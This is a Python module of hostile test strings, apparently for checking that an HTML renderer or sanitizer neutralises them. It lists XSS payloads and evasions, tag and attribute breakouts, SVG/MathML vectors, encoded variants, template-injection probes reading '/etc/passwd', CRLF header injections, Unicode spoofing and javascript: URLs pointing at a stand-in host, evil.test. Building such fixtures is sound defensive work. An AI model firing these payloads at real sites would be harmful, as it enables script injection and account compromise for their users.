"""Texts that try to become more than text on a page, by the way in which they try. Written for this project."""

from __future__ import annotations

from typing import Final

HOSTILE: Final[dict[str, list[str]]] = {
    "an element": [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=//evil.test></object>", "<embed src=//evil.test>", "<link rel=stylesheet href=//evil.test/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>", "<base href=//evil.test/>", "<style>*{display:none}</style>",
        "<form action=//evil.test><button>Send</button></form>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<a href=javascript:alert(1)>here</a>", "<dialog open>Sign in again</dialog>", "<template><script>alert(1)</script></template>",
    ],
    "the end of an element": [
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
        "</td></tr></table><script>alert(1)</script>", "</main></body></html><script>alert(1)</script>", "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "</code></pre><script>alert(1)</script>",
    ],
    "an attribute": [
        '" onmouseover="alert(1)', "' onmouseover='alert(1)", " onmouseover=alert(1) ", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
        '" style="position:fixed;inset:0', '" autofocus onfocus="alert(1)', '" formaction="//evil.test', '` onmouseover=`alert(1)', '"\nonclick\n=\n"alert(1)',
    ],
    "SVG and MathML": [
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><use href='data:image/svg+xml,<svg/>#x'/></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", "<svg><foreignObject><iframe src=//evil.test></iframe></foreignObject></svg>",
    ],
    "an encoding": [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\u200bscript>alert(1)</script>",
    ],
    "a template": ["{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{# hidden #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{ ''.__class__.__mro__ }}", "%(name)s {0.__class__}"],
    "a header": ["x\r\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aLocation:%20//evil.test", "x\nX: y"],
    "letters": ["\u202egnp.exe", "a\u0300\u0301\u0302\u0303" * 40, "\u2066\u2067x\u2069", "\ufeff\u00ad\u200d", "\ufdfd" * 20, "x" * 2_000, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 30],
}  # fmt: skip
ADDRESSES: Final = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "//evil.test/x", "/\\evil.test", "https://evil.test/", "\x01javascript:alert(1)", "../../../sign-out",
]  # fmt: skip
"""Texts that do harm as a whole address. They are tried alone: a text before them would disarm them."""


def together() -> str:
    """Returns every text of HOSTILE in one."""
    return "\n".join(one for texts in HOSTILE.values() for one in texts)
